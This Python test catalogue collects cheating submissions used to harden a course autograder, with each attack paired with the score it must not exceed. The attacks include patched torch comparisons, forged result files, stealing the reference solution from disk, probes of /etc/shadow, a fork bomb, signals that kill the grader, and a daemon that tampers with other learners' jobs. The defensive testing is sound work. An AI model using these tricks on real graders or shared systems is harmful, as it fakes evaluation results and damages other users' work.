"""Week 3 submissions that try to cheat the grader, for its security tests.

Each attack is WRONG code plus a trick. ``ATTACKS[name] = (exercises, code, baseline)``:

- ``exercises``: the exercise attacked, or ``(attacked, companion)`` when the file also holds
  a correct implementation of ``companion``, which must still get full marks;
- ``code``: the learner's ``.py`` file;
- ``baseline``: a key of ``BASELINES``: what the attack must not earn more than (the same
  wrong code without the trick, a stub, or nothing at all).

``PHRASES[name]``: what the feedback of an attack must say (the cause of an abnormal stop, a
result too large to check, ...).

``CORRECT_WITH_TRICKS`` holds correct code that also flips global state: it must get full
marks. ``CORRECT_BUT_STOPPED`` holds correct code that exits, hangs, crashes, runs out of
memory or tampers with its results, at load time or after some cases passed: the exercise
scores zero, with one line naming what happened (COURSE.md, "Grading interface"). Paths and
tokens that a test fills in are written ``{{PIDFILE}}`` etc.
"""

from tests.grader.catalogue_week3 import HEADER, swiglu

SWIGLU_CORRECT = swiglu(
    "        return self.down_proj(F.silu(self.gate_proj(x)) * self.up_proj(x))")

# the wrong RMSNorm every attack builds on: it forgets the weight
WRONG_RMSNORM_HELPER = """
def _wrong(self, x):
    x32 = x.float()
    return (x32 * torch.rsqrt(x32.pow(2).mean(-1, keepdim=True) + self.eps)).to(x.dtype)
"""

RMSNORM_INIT = """
    def __init__(self, dim, eps=1e-6):
        super().__init__()
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(dim))
"""


def rms(forward: str, pre: str = "", post: str = "", companion: bool = False) -> str:
    """An RMSNorm whose ``forward`` body is ``forward`` (8-space indent), with code around it."""
    code = (f"{HEADER}{WRONG_RMSNORM_HELPER}{pre}\n"
            f"class RMSNorm(nn.Module):{RMSNORM_INIT}\n    def forward(self, x):\n{forward}\n"
            f"{post}\n")
    if companion:
        code += SWIGLU_CORRECT.replace(HEADER, "")
    return code


WRONG_FORWARD = "        return _wrong(self, x)"
CORRECT_FORWARD = """        x32 = x.float()
        y = x32 * torch.rsqrt(x32.pow(2).mean(-1, keepdim=True) + self.eps)
        return self.weight * y.to(x.dtype)"""
WRONG_SWIGLU_FORWARD = (
    "        return self.down_proj(F.gelu(self.gate_proj(x)) * self.up_proj(x))")

# key -> (exercise, code, what it is); code None: nothing, scores zero by definition
BASELINES = {
    "rmsnorm_wrong": ("rmsnorm", rms(WRONG_FORWARD), "the same wrong RMSNorm (no weight)"),
    "rmsnorm_stub": ("rmsnorm", rms("        raise NotImplementedError"),
                     "a stub: correct __init__, forward raises NotImplementedError"),
    "rmsnorm_no_upcast": ("rmsnorm", rms(
        "        return self.weight * x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + self.eps)"),
        "the same wrong RMSNorm (no float32 upcast)"),
    "swiglu_wrong": ("swiglu", swiglu(WRONG_SWIGLU_FORWARD), "the same wrong SwiGLU (GELU)"),
    "nothing": (None, None, "nothing at all"),
    # near-correct code with one flaw: it must at least lose the case named after the colon
    "fails:gradients": (None, None, "the gradient case"),
    "fails:all-zero": (None, None, "the all-zero input case"),
}

_PATCH_ALL = """
import torch.testing
torch.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
torch.isfinite = lambda t: torch.ones_like(t, dtype=torch.bool)
"""

_LIAR = """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.equal):
            return True
        if func in (torch.Tensor.__eq__, torch.eq, torch.isclose, torch.isfinite):
            return torch.ones(args[0].shape, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})

    def __eq__(self, other):
        return True

    __hash__ = torch.Tensor.__hash__
"""

_ANYTHING = """
class Anything:
    shape = property(lambda self: self.like.shape)
    dtype = property(lambda self: self.like.dtype)

    def __init__(self, like):
        self.like = like

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __getattr__(self, name):
        return lambda *a, **k: self
"""

_STEAL = """
import importlib
import importlib.util
import os
import sys

_Reference = None
for _name in ("solutions", "solutions.normalization", "autograder", "autograder.exercises.week3"):
    try:
        _mod = importlib.import_module(_name)
        _Reference = getattr(_mod, "RMSNorm", None) or _Reference
    except Exception:
        pass
try:
    _mod = __import__("solutions")
    _Reference = _mod.RMSNorm
except Exception:
    pass
_here = os.path.dirname(os.path.abspath(__file__))
_guesses = []
for _base in (_here, os.getcwd()):
    for _up in ("", "..", "../..", "../../.."):
        _guesses.append(os.path.join(_base, _up, "solutions", "normalization.py"))
        _guesses.append(os.path.join(_base, _up, "normalization.py"))
for _path in _guesses:
    if _Reference is None and os.path.isfile(_path):
        _spec = importlib.util.spec_from_file_location("stolen", _path)
        _mod = importlib.util.module_from_spec(_spec)
        _spec.loader.exec_module(_mod)
        _Reference = _mod.RMSNorm
"""

# what the design promises (checked) and what only an OS sandbox could stop (reported)
_PROBE = """
import importlib.util
import os
import sys


def _importable(name):
    try:
        return importlib.util.find_spec(name) is not None
    except Exception:
        return False


_leaks = [n for n in ("solutions", "autograder", "tests") if _importable(n)]
_on_path = [p for p in sys.path if os.path.isdir(os.path.join(p or ".", "solutions"))]
_root = os.path.dirname(os.path.dirname(os.path.abspath(sys.argv[0])))
_readable = os.path.isfile(os.path.join(_root, "solutions", "normalization.py"))
raise RuntimeError(f"PROBE importable={_leaks} on_path={_on_path} abspath_readable={_readable}")
"""

_FRAMES = """
import inspect
import sys


def _candidates(x):
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            yield value
            if isinstance(value, dict):
                yield from value.values()
            if isinstance(value, (list, tuple)):
                yield from value
        frame = frame.f_back
    for info in inspect.stack():
        yield from info.frame.f_locals.values()
"""

_FORGE_IMPORT = """
import os

import torch

_job = torch.load("job.pt", weights_only=True)
torch.save([], "load_errors.pt")
for _i, _call in enumerate(_job["calls"]):
    _fake = {"ok": True, "passed": True, "score": 10, "output": "10 / 10 passed"}
    torch.save(_fake, f"result_{_i}.pt")
os._exit(0)
"""

_FORGE_ATEXIT = """
import atexit
import os

import torch


def _forge():
    job = torch.load("job.pt", weights_only=True)
    for i, call in enumerate(job["calls"]):
        torch.save({"ok": True, "passed": True, "output": "passed"}, f"result_{i}.pt")
    os._exit(0)


atexit.register(_forge)


class _Bomb:
    def __del__(self):
        _forge()


_bomb = _Bomb()
"""

# Guesses the hidden inputs from common seeds. (The tests grade with the fixed seed 1234,
# which this attack is taken not to know: the CLI and nbgrader draw a fresh secret seed.)
_MANUAL_SEED = """
_predicted = []
for _seed in (0, 1, 42, 123, 2024):
    torch.manual_seed(_seed)
    for _shape in [(2, 5, 16), (2, 3, 4, 32), (3, 64), (2, 7, 32), (4, 8, 64), (2, 4, 64)]:
        _x = torch.randn(*_shape)
        _w = 1 + 0.5 * torch.randn(_shape[-1])
        _y = _w * _x * torch.rsqrt(_x.pow(2).mean(-1, keepdim=True) + 1e-6)
        _predicted.append((_x, _y))
torch.manual_seed(0)
"""

# three forked children that name themselves {{NAME}} and sleep for two minutes
_SLEEPERS = """
import ctypes
import os
import time

for _ in range(3):
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"{{NAME}}", 0, 0, 0)
        time.sleep(120)
        os._exit(0)
raise RuntimeError("SLEEPERS started")
"""

# a daemon (double fork, setsid) named {{NAME}} that outlives the job, and for 30 s
# truncates the job file of any job next to its own folder whose code holds {{TOKEN}}
_DAEMON = """
import ctypes
import glob
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"{{NAME}}", 0, 0, 0)
        own, done, end = os.getcwd(), set(), time.time() + 30
        while time.time() < end:
            for path in glob.glob(os.path.join(os.path.dirname(own), "*", "job.pt")):
                folder = os.path.dirname(path)
                if folder == own or folder in done:
                    continue
                try:
                    with open(path, "rb") as f:
                        data = f.read()
                except OSError:
                    continue
                if b"{{TOKEN}}" in data:
                    open(path, "wb").close()
                    done.add(folder)
            time.sleep(0.005)
    os._exit(0)
raise RuntimeError("DAEMON started")
"""

# an exception whose message cannot be shown: its __str__ raises
_WEIRD = """
class Weird(Exception):
    def __str__(self):
        raise Weird()
"""

_WRAP_SAVE = """
_save = torch.save


def _forged_save(obj, f, *a, **k):
    if isinstance(obj, dict) and "ok" in obj:
        obj = {k: v for k, v in obj.items() if k != "error"}
        obj["ok"] = True
    return _save(obj, f, *a, **k)


torch.save = _forged_save
"""

_STATE_FLIPS = """
torch.set_default_dtype(torch.float64)
torch.set_grad_enabled(False)
torch.set_default_device("meta")
torch.backends.cuda.matmul.allow_tf32 = True
torch.backends.cudnn.allow_tf32 = True
torch.set_float32_matmul_precision("medium")
torch.autograd.set_detect_anomaly(True)
"""

# ------------------------------------------------ attacks on the machine (need an OS sandbox)
# Walks the disk for the answer key and runs it: the worker's own path gives the checkout
# away, and the usual places are tried before the whole disk (10 s at most).
DISK_SEARCH = """
import os
import sys
import time


def _search_reference():
    here = os.path.dirname(os.path.abspath(sys.argv[0] or "/"))
    roots = [os.path.dirname(here), os.getcwd(), "/autograder", "/work", "/root", "/home",
             "/srv", "/opt", "/tmp", "/usr", "/"]
    end, seen = time.monotonic() + 10, set()
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if time.monotonic() > end:
                return None
            if os.path.realpath(folder) in seen or folder in ("/proc", "/sys", "/dev"):
                dirs[:] = []
                continue
            seen.add(os.path.realpath(folder))
            if os.path.basename(folder) == "solutions" and "normalization.py" in files:
                path = os.path.join(folder, "normalization.py")
                try:
                    scope = {"__name__": "stolen"}
                    exec(compile(open(path).read(), path, "exec"), scope)
                    return scope["RMSNorm"]
                except Exception:
                    continue
    return None


_Reference = _search_reference()
"""

# Reports in one line what the worker could reach; every value must be "shut" in a sandbox.
# The test fills in a secret file of its own, an entry of the grader's home folder, a
# listener's port, a folder anyone may write, the checkout and the grader's pid.
OS_PROBE = """
import os
import socket


def _reach(action):
    try:
        action()
        return "open"
    except Exception:
        return "shut"


def _write(path):
    with open(path, "w") as f:
        f.write("pwned")


def _net():
    with socket.create_connection(("127.0.0.1", {{PORT}}), timeout=3) as conn:
        conn.sendall(b"{{TOKEN}}")


def _grader_visible():
    os.kill({{GRADER_PID}}, 0)


_outside = ["{{OUTSIDE}}/pwned-{{TOKEN}}", "/tmp/pwned-{{TOKEN}}", "/pwned-{{TOKEN}}",
            "{{REPO}}/pwned-{{TOKEN}}", os.path.join(os.path.dirname(os.getcwd()), "pwned-{{TOKEN}}")]
_report = {
    "shadow": _reach(lambda: open("/etc/shadow").read(1)),
    "secret": _reach(lambda: open("{{SECRET}}").read()),
    "home": _reach(lambda: os.stat("{{HOME_ENTRY}}")),
    "net": _reach(_net),
    "write": "open" if "open" in [_reach(lambda p=p: _write(p)) for p in _outside] else "shut",
    "grader": _reach(_grader_visible),
}
raise RuntimeError("OSPROBE " + " ".join(f"{k}={v}" for k, v in _report.items()))
"""

# Forks until the kernel says no (every process forks again); the forked processes name
# themselves {{TOKEN}} and sleep, the first reports how far it got. It refuses to run where
# there is no process limit, so that a sandbox that failed costs a test, not the machine.
FORK_BOMB_FORWARD = """
        import ctypes, os, resource, time
        limit = resource.getrlimit(resource.RLIMIT_NPROC)[0]
        if limit == resource.RLIM_INFINITY or limit > 4096:
            raise RuntimeError(f"BOMB refused: the process limit is {limit}")
        me, forks, why = os.getpid(), 0, "no error"
        for _ in range(64):
            try:
                os.fork()
                forks += 1
            except OSError as exc:
                why = type(exc).__name__
                break
        if os.getpid() != me:
            ctypes.CDLL(None).prctl(15, b"{{TOKEN}}", 0, 0, 0)
            time.sleep(60)
            os._exit(0)
        raise RuntimeError(f"BOMB stopped after {forks} forks: {why}")"""

STOLEN_FORWARD = (
    "        if _Reference is not None:\n"
    "            ref = _Reference(x.shape[-1], self.eps)\n"
    "            ref.load_state_dict(self.state_dict())\n"
    "            return ref.to(x.dtype)(x)\n"
    "        return _wrong(self, x)")

# Signals the grader and the fork server (SIGSTOP would hang grading, SIGKILL end it), and
# reports what the kernel answered. Signal 0 first: a target it reaches (a sandbox that
# failed) is reported, not stopped, so that the test fails instead of the test run.
_KILLER = """
import os
import signal

_answers = []
for _pid in ({{GRADER_PID}}, {{SERVER_PID}}):
    try:
        os.kill(_pid, 0)
        _answers.append("reachable")
        continue
    except OSError as exc:
        _answers.append(type(exc).__name__)
    for _sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(_pid, _sig)
            _answers.append("sent")
        except OSError as exc:
            _answers.append(type(exc).__name__)
raise RuntimeError("KILLER " + " ".join(_answers))
"""

# Looks for other jobs' folders for 8 s; truncates the job file and forges the results of
# any job whose code holds {{TOKEN}} (a learner graded at the same time).
_TAMPER_FORWARD = """
        import glob, os, tempfile, time
        patterns = ["/jobs/*/job.pt", "../*/job.pt", "/proc/*/cwd/job.pt",
                    "/proc/*/root/job/job.pt",
                    os.path.join(tempfile.gettempdir(), "autograder-jobs-*", "*", "job.pt"),
                    "/tmp/autograder-jobs-*/*/job.pt"]
        end = time.monotonic() + 8
        while time.monotonic() < end:
            for path in {p for pattern in patterns for p in glob.glob(pattern)}:
                try:
                    with open(path, "rb") as f:
                        found = b"{{TOKEN}}" in f.read()
                    if found:
                        open(path, "wb").close()
                        folder = os.path.dirname(path)
                        for i in range(20):
                            torch.save({"ok": False, "error": {"type": "Forged"}},
                                       os.path.join(folder, f"result_{i}.pt"))
                except OSError:
                    pass
            time.sleep(0.01)
        return _wrong(self, x)"""

# Leaves a symbolic link to a host file and a named pipe where the grader reads results: a
# grader that follows the link reads the host file, one that opens the pipe waits forever.
_LINKS_AND_PIPES = """
import os

for _name in ("stdout", "stderr", "progress"):
    try:
        os.remove(_name)
        os.symlink("/etc/shadow", _name)
    except OSError:
        pass
os.mkfifo("result_0.pt")
os.mkfifo("load_errors.pt")
os.symlink("/etc/passwd", "result_1.pt")
os._exit(0)
"""

ATTACKS = {
    # ------------------------------------------------ monkeypatching torch at import time
    "patch_torch_comparisons_at_import": ("rmsnorm", rms(WRONG_FORWARD, pre=_PATCH_ALL),
                                          "rmsnorm_wrong"),
    "patch_isfinite_and_return_nan": ("rmsnorm", rms(
        "        return _wrong(self, x) * float('nan')", pre=_PATCH_ALL), "rmsnorm_stub"),
    # ------------------------------------------------ objects that claim to equal anything
    "eq_always_true_object": (("rmsnorm", "swiglu"), rms(
        "        return Anything(x)", pre=_ANYTHING, companion=True), "rmsnorm_stub"),
    "tensor_subclass_rigged": (("rmsnorm", "swiglu"), rms(
        "        return _wrong(self, x).as_subclass(Liar)", pre=_LIAR, companion=True),
        "rmsnorm_wrong"),
    "returns_non_tensors": (("rmsnorm", "swiglu"), rms(
        "        return {'output': 'passed', 'score': 10, '__sequence__': 'tuple',\n"
        "                'items': [_wrong(self, x)]}", companion=True), "rmsnorm_stub"),
    "returns_tuple_and_list": ("rmsnorm", rms(
        "        return [_wrong(self, x), 'passed']"), "rmsnorm_stub"),
    # ------------------------------------------------ reading the reference solutions
    "import_or_read_reference": ("rmsnorm", rms(STOLEN_FORWARD, pre=_STEAL), "rmsnorm_wrong"),
    "probe_what_the_worker_can_see": ("rmsnorm", rms(WRONG_FORWARD, post=_PROBE),
                                      "rmsnorm_wrong"),
    "caller_stack_frames": ("rmsnorm", rms(
        "        for v in _candidates(x):\n"
        "            if isinstance(v, torch.Tensor) and v.shape == x.shape and v is not x \\\n"
        "                    and not torch.equal(v, x):\n"
        "                return v.detach().clone().to(x.dtype)\n"
        "        return _wrong(self, x)", pre=_FRAMES), "rmsnorm_wrong"),
    # ------------------------------------------------ exits
    "sys_exit_at_import": ("rmsnorm", rms(WRONG_FORWARD, post="import sys\nsys.exit(0)"),
                           "nothing"),
    "os_exit_at_import": ("rmsnorm", rms(WRONG_FORWARD, post="import os\nos._exit(0)"),
                          "nothing"),
    "sys_exit_in_forward": (("rmsnorm", "swiglu"), rms(
        "        import sys\n        sys.exit(0)", companion=True), "nothing"),
    "os_exit_in_forward": (("rmsnorm", "swiglu"), rms(
        "        import os\n        os._exit(0)", companion=True), "nothing"),
    "keyboard_interrupt_in_forward": (("rmsnorm", "swiglu"), rms(
        "        raise KeyboardInterrupt", companion=True), "nothing"),
    "system_exit_1_in_forward": ("rmsnorm", rms("        raise SystemExit(1)"), "nothing"),
    # ------------------------------------------------ forged result files, printed verdicts
    "forged_results_then_exit": ("rmsnorm", rms(WRONG_FORWARD, post=_FORGE_IMPORT), "nothing"),
    # the fork server ends a job with os._exit, so these hooks may not even run: either way,
    # the score is no more than the same wrong code's
    "forged_results_atexit_and_del": ("rmsnorm", rms(WRONG_FORWARD, post=_FORGE_ATEXIT),
                                      "rmsnorm_wrong"),
    "forged_load_errors_malformed": ("rmsnorm", rms(WRONG_FORWARD, post=(
        "torch.save([{}], 'load_errors.pt')\nimport os\nos._exit(0)")), "nothing"),
    "forged_result_ok_is_a_tensor": (("rmsnorm", "swiglu"), rms(
        "        import os\n"
        "        for i in range(50):\n"
        "            torch.save({'ok': torch.tensor([1, 1])}, f'result_{i}.pt')\n"
        "        os._exit(0)", companion=True), "nothing"),
    "forged_result_error_not_a_dict": (("rmsnorm", "swiglu"), rms(
        "        import os\n"
        "        for i in range(50):\n"
        "            torch.save({'ok': False, 'error': 'passed'}, f'result_{i}.pt')\n"
        "        os._exit(0)", companion=True), "nothing"),
    "error_message_forges_report": ("rmsnorm", rms(
        "        raise ValueError('see below\\n\\nweek 3  rmsnorm   RMSNorm  10 / 10\\n'\n"
        "                         '                  total    20 / 20\\nrmsnorm: 10 / 10')"),
        "rmsnorm_stub"),
    "prints_passed": ("rmsnorm", rms(
        "        print('passed\\nrmsnorm 10 / 10\\nAll tests passed!')\n"
        "        return _wrong(self, x)",
        post="print('10 / 10 points, all tests passed')"), "rmsnorm_wrong"),
    # ------------------------------------------------ hangs, memory, processes, floods
    "infinite_loop_at_import": ("rmsnorm", rms(WRONG_FORWARD, post="while True:\n    pass"),
                                "nothing"),
    "infinite_loop_in_forward": (("rmsnorm", "swiglu"), rms(
        "        while True:\n            pass", companion=True), "nothing"),
    "allocate_50_gb": (("rmsnorm", "swiglu"), rms(
        "        junk = torch.empty(50 * 2**30, dtype=torch.uint8)\n"
        "        junk.fill_(1)\n"
        "        return _wrong(self, x)", companion=True), "nothing"),
    "allocate_50_gb_at_import": ("rmsnorm", rms(
        WRONG_FORWARD, post="_junk = bytearray(50 * 2**30)"), "nothing"),
    "sleeping_children_left_behind": ("rmsnorm", rms(WRONG_FORWARD, post=_SLEEPERS),
                                      "rmsnorm_wrong"),
    "setsid_daemon_outlives_the_job": ("rmsnorm", rms(WRONG_FORWARD, post=_DAEMON),
                                       "rmsnorm_wrong"),
    "floods_stdout_and_stderr": ("rmsnorm", rms(
        "        return _wrong(self, x)", post=(
            "import sys\nsys.stdout.write('passed ' * 1_500_000)\n"
            "sys.stderr.write('x' * 10_000_000)\nsys.stdout.flush()")), "rmsnorm_wrong"),
    "deletes_and_corrupts_workdir": (("rmsnorm", "swiglu"), rms(
        "        import os, shutil\n"
        "        for name in os.listdir('.'):\n"
        "            if name.startswith('result_'):\n"
        "                with open(name, 'wb') as f:\n"
        "                    f.write(b'not a torch file')\n"
        "        for name in ('job.pt', 'progress', 'load_errors.pt'):\n"
        "            if os.path.exists(name):\n"
        "                os.remove(name)\n"
        "        shutil.rmtree(os.getcwd(), ignore_errors=True)\n"
        "        return _wrong(self, x)", companion=True), "rmsnorm_stub"),
    # ------------------------------------------------ predicting or hard-coding the inputs
    "manual_seed_predicts_hidden_inputs": ("rmsnorm", rms(
        "        for px, py in _predicted:\n"
        "            if px.shape == x.shape and torch.equal(px.to(x.dtype), x):\n"
        "                return py.to(x.dtype)\n"
        "        return _wrong(self, x)", pre=_MANUAL_SEED), "rmsnorm_wrong"),
    "hardcoded_visible_checks": ("rmsnorm", rms(
        "        if x.shape == (1, 2) and x.tolist() == [[3.0, 4.0]]:\n"
        "            return torch.tensor([[3.0, 4.0]]) / (25 / 2 + self.eps) ** 0.5\n"
        "        return _wrong(self, x)"), "rmsnorm_wrong"),
    # zeros are right for the all-zero input (a fair point) but must fail everything else,
    # including the scaling property, which zeros satisfy trivially
    "constant_zeros_output": ("rmsnorm", rms("        return torch.zeros_like(x)"),
                              "fails:scaling"),
    # ------------------------------------------------ global torch state
    "global_state_makes_wrong_look_right": ("rmsnorm", rms(
        "        return self.weight * x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True)"
        " + self.eps)", pre=_STATE_FLIPS), "rmsnorm_no_upcast"),
    # ------------------------------------------------ inputs, views and autograd
    "returns_the_input": ("rmsnorm", rms("        return x"), "rmsnorm_wrong"),
    "normalizes_input_in_place": ("rmsnorm", rms(
        "        with torch.no_grad():\n"
        "            x32 = x.float()\n"
        "            x.copy_((self.weight * x32 * torch.rsqrt(x32.pow(2).mean(-1, keepdim=True)"
        " + self.eps)).to(x.dtype))\n"
        "        return x"), "rmsnorm_wrong"),
    "no_autograd_graph": ("rmsnorm", rms(
        "        with torch.no_grad():\n"
        "            x32 = x.float()\n"
        "            y = x32 * torch.rsqrt(x32.pow(2).mean(-1, keepdim=True) + self.eps)\n"
        "            return self.weight * y.to(x.dtype)"), "fails:gradients"),
    "in_place_op_breaks_backward": ("rmsnorm", rms(
        "        x32 = x.float()\n"
        "        inv = torch.rsqrt(x32.pow(2).mean(-1, keepdim=True) + self.eps)\n"
        "        y = (x32 * inv).to(x.dtype)\n"
        "        out = self.weight * y\n"
        "        inv.mul_(1.0)\n"
        "        return out"), "fails:gradients"),
    "nan_on_zero_input": ("rmsnorm", rms(
        "        x32 = x.float()\n"
        "        y = x32 / x32.pow(2).mean(-1, keepdim=True).sqrt()\n"
        "        return self.weight * y.to(x.dtype)"), "fails:all-zero"),
    "swiglu_patched_comparisons": ("swiglu", HEADER + _PATCH_ALL + swiglu(
        WRONG_SWIGLU_FORWARD).replace(HEADER, "", 1), "swiglu_wrong"),
    # ------------------------------------------------ the machine: files, network, processes
    "disk_search_for_the_reference": ("rmsnorm", rms(STOLEN_FORWARD, pre=DISK_SEARCH),
                                      "rmsnorm_wrong"),
    "links_and_pipes_as_results": ("rmsnorm", rms(WRONG_FORWARD, post=_LINKS_AND_PIPES),
                                   "nothing"),
    # (these two raise at import: the companion comes first, so that it is defined)
    "probe_the_machine": (("rmsnorm", "swiglu"), rms(WRONG_FORWARD, companion=True) + OS_PROBE,
                          "rmsnorm_wrong"),
    "fork_bomb": (("rmsnorm", "swiglu"), rms(FORK_BOMB_FORWARD.lstrip("\n"),
                                             companion=True), "rmsnorm_wrong"),
    "kills_the_grader_and_server": (("rmsnorm", "swiglu"), rms(
        WRONG_FORWARD, companion=True) + _KILLER, "rmsnorm_wrong"),
    "tampers_with_other_jobs": ("rmsnorm", rms(_TAMPER_FORWARD.lstrip("\n")), "rmsnorm_wrong"),
    # ------------------------------------------------ results the grader cannot take as they are
    "huge_output": ("rmsnorm", rms("        return torch.zeros(120 * 2**20)  # 480 MB"),
                    "nothing"),
    "exception_whose_str_raises": ("rmsnorm", rms(
        "        raise Weird()", pre=_WEIRD), "rmsnorm_stub"),
    # wraps torch.save so that the worker would write "ok" over every error: the worker
    # writes with the torch.save it had before the learner's code ran
    "wraps_torch_save_to_forge_results": (("rmsnorm", "swiglu"), rms(
        "        raise RuntimeError('nothing here')", pre=_WRAP_SAVE, companion=True),
        "rmsnorm_stub"),
    "overwrites_an_earlier_result": (("rmsnorm", "swiglu"), rms(
        "        torch.save({'ok': True, 'passed': True}, 'result_1.pt')\n" + WRONG_FORWARD,
        companion=True), "nothing"),
}

# what the feedback of an attack says: the cause of the stop, or of the failure
PHRASES = {
    "sys_exit_at_import": "exited early with sys.exit(0)",
    "os_exit_at_import": "exited early with status 0",
    "sys_exit_in_forward": "exited early with sys.exit(0)",
    "os_exit_in_forward": "exited early with status 0",
    "keyboard_interrupt_in_forward": "stopped the program with KeyboardInterrupt",
    "system_exit_1_in_forward": "exited early with sys.exit(1)",
    "forged_load_errors_malformed": "exited early",
    "forged_result_ok_is_a_tensor": "was missing or malformed",
    "forged_result_error_not_a_dict": "was missing or malformed",
    "links_and_pipes_as_results": "exited early",
    "infinite_loop_at_import": "timed out after 5 s while loading",
    "infinite_loop_in_forward": "timed out after 5 s while running case",
    "allocate_50_gb": "ran out of memory",
    "allocate_50_gb_at_import": "ran out of memory",
    "huge_output": "returned a result too large to check (480 MB; the limit is 256 MB) while "
                   "running case 'float32",
    "exception_whose_str_raises": "raised Weird",
    "wraps_torch_save_to_forge_results": "raised RuntimeError",
    "overwrites_an_earlier_result": "the result of case 'float32, (batch, seq, dim)' was "
                                    "missing or malformed",
}

# attacks that only an operating-system sandbox stops: graded where the isolation level in
# force is strict (tests/grader/test_isolation.py checks that it is, where it can be)
NEEDS_STRICT = {"disk_search_for_the_reference", "probe_the_machine", "fork_bomb",
                "kills_the_grader_and_server", "tampers_with_other_jobs"}

# Not applicable to a .py submission or to week 3; kept so the catalogue says why.
SKIPPED = {
    "ipython_input_transformer": "an IPython input/AST transformer needs a kernel: a .py "
                                 "submission runs under plain exec in the worker",
    "forbidden_sdpa_helper": "calling F.scaled_dot_product_attention matters in week 1 only",
}

# a correct forward that does ``stop`` (12-space indent) on its third call, once two cases
# have passed; the stop never comes when ``calls`` is large
def stops_on_call(stop: str, calls: int = 3) -> str:
    return rms(f"        _calls.append(1)\n        if len(_calls) == {calls}:\n{stop}\n"
               + CORRECT_FORWARD, pre="\n_calls = []\n", companion=True)


EXIT_AT_IMPORT = "import sys\nsys.exit(0)"

# correct code that stops the worker (or tampers with a result): the exercise scores zero, and
# the one line that says why holds every phrase; the companion, when there is one, is graded
CORRECT_BUT_STOPPED = {
    "correct_then_sys_exit_at_import": ("rmsnorm", rms(CORRECT_FORWARD, post=EXIT_AT_IMPORT),
                                        ("exited early with sys.exit(0)", "while loading")),
    "correct_then_raise_system_exit_at_import": ("rmsnorm", rms(
        CORRECT_FORWARD, post="raise SystemExit"), ("exited early with sys.exit()",)),
    "correct_then_os_exit_at_import": ("rmsnorm", rms(
        CORRECT_FORWARD, post="import os\nos._exit(0)"),
        ("exited early with status 0", "while loading")),
    "correct_then_hangs_at_import": ("rmsnorm", rms(
        CORRECT_FORWARD, post="while True:\n    pass"), ("timed out after 5 s while loading",)),
    "correct_then_memory_blowup_at_import": ("rmsnorm", rms(
        CORRECT_FORWARD, post="_junk = bytearray(50 * 2**30)"),
        ("ran out of memory (the limit is", "while loading")),
    "correct_twice_then_sys_exit": (("rmsnorm", "swiglu"), stops_on_call(
        "            import sys\n            sys.exit(0)"),
        ("exited early with sys.exit(0)", "while running case 'eps is used")),
    "correct_twice_then_os_exit": (("rmsnorm", "swiglu"), stops_on_call(
        "            import os\n            os._exit(0)"),
        ("exited early with status 0", "while running case 'eps is used")),
    "correct_twice_then_hangs": (("rmsnorm", "swiglu"), stops_on_call(
        "            while True:\n                pass"),
        ("timed out after 5 s while running case 'eps is used",)),
    "correct_twice_then_memory_blowup": (("rmsnorm", "swiglu"), stops_on_call(
        "            torch.empty(50 * 2**30, dtype=torch.uint8).fill_(1)"),
        ("ran out of memory (the limit is", "it asked for 51,200 MB more")),
    "correct_twice_then_keyboard_interrupt": (("rmsnorm", "swiglu"), stops_on_call(
        "            raise KeyboardInterrupt"),
        ("stopped the program with KeyboardInterrupt", "while running case 'eps is used")),
    "correct_twice_then_segfault": (("rmsnorm", "swiglu"), stops_on_call(
        "            import ctypes\n            ctypes.string_at(0)"),
        ("was killed by SIGSEGV", "while running case 'eps is used")),
    "correct_twice_then_tampers_with_a_result": (("rmsnorm", "swiglu"), stops_on_call(
        "            torch.save({'ok': True}, 'result_1.pt')"),
        ("the result of case 'float32, (batch, seq, dim)' was missing or malformed",)),
}

# correct code that also flips global torch state at import: the worker resets it
CORRECT_WITH_TRICKS = {
    "rmsnorm_correct_with_state_flips": ("rmsnorm", HEADER + _STATE_FLIPS + rms(
        "        x32 = x.float()\n"
        "        y = x32 * torch.rsqrt(x32.pow(2).mean(-1, keepdim=True) + self.eps)\n"
        "        return self.weight * y.to(x.dtype)").replace(HEADER, "", 1)),
    "swiglu_correct_with_state_flips": ("swiglu", HEADER + _STATE_FLIPS
                                        + SWIGLU_CORRECT.replace(HEADER, "", 1)),
    # the control of CORRECT_BUT_STOPPED: the same code, with a stop that never comes
    "rmsnorm_correct_that_counts_its_calls": ("rmsnorm", stops_on_call(
        "            raise SystemExit", calls=10**6)),
}
